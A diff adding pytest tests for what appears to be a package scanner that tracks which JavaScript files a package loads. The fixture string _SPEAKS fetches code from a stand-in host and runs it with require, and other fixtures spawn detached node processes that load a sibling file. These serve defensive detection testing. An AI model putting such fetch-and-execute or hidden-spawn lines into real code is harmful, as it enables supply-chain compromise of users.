@@ -54,3 +54,60 @@ def test_a_script_beside_the_hook(
         "tools/a.ps1": f"$d = 'x'\n{line}\n",
     }
     assert outcome(pack(files)).dangerous is dangerous
+
+
+_SPEAKS = "fetch('https://drop.invalid/a').then((r) => r.text()).then((t) => new Function('require', t)(require));"
+_LINE = "`require(${JSON.stringify(path.join(__dirname, 'beat.js'))})()`"
+
+
+@pytest.mark.parametrize(
+    "start",
+    [
+        f"cp.spawn('node', ['-e', {_LINE}], {{ detached: true, stdio: 'ignore' }})",
+        f"cp.exec('node -e ' + {_LINE})",
+        f"cp.spawn(process.execPath, ['-e', {_LINE}])",
+        "cp.execFile('node', ['-e', `require('${path.resolve(__dirname, 'beat')}').start()`])",
+        "cp.fork(path.join(__dirname, 'beat.js'))",
+    ],
+)
+def test_a_line_that_requires_a_file_beside(start: str, pack: Pack) -> None:
+    """A file that a line handed to another interpreter requires runs with the one that hands it over."""
+    files: dict[str, str | Mapping[str, object]] = {
+        "package.json": {"name": "sample"},
+        "index.js": "require('./lib/log')",
+        "lib/log.js": f"const cp = require('child_process'), path = require('path');\n{start};",
+        "lib/beat.js": _SPEAKS,
+        "lib/idle.js": _SPEAKS,
+    }
+    package = pack(files)
+    loaded = Scanned(package, facts_of(package.files), {}).loaded
+    assert "lib/beat.js" in loaded
+    assert "lib/idle.js" not in loaded
+
+
+@pytest.mark.parametrize(
+    ("name", "loads"),
+    [
+        ("'./rules/' + name", True),
+        ("`./rules/${name}.js`", True),
+        ("path.join(__dirname, 'rules', name)", True),
+        ("`../lib/rules/${name}/index.js`", True),
+        ("'./other/' + name", False),
+        ("name", False),
+    ],
+)
+def test_a_folder_of_which_any_file_is_loaded(*, name: str, loads: bool, pack: Pack) -> None:
+    """Of a name of which only the end is unknown every file is meant that it may be, and no other."""
+    files: dict[str, str | Mapping[str, object]] = {
+        "package.json": {"name": "sample", "main": "lib/index.js"},
+        "lib/index.js": (
+            "const fs = require('fs'), path = require('path');\n"
+            f"for (const name of fs.readdirSync(path.join(__dirname, 'rules'))) require({name});"
+        ),
+        "lib/rules/a.js": "fetch('https://e.invalid/');",
+        "lib/rules/b/index.js": "fetch('https://e.invalid/');",
+        "lib/rules/b/inner.js": "fetch('https://e.invalid/');",
+    }
+    package = pack(files)
+    loaded = Scanned(package, facts_of(package.files), {}).loaded
+    assert loaded - {"lib/index.js"} == ({"lib/rules/a.js", "lib/rules/b/index.js"} if loads else set())
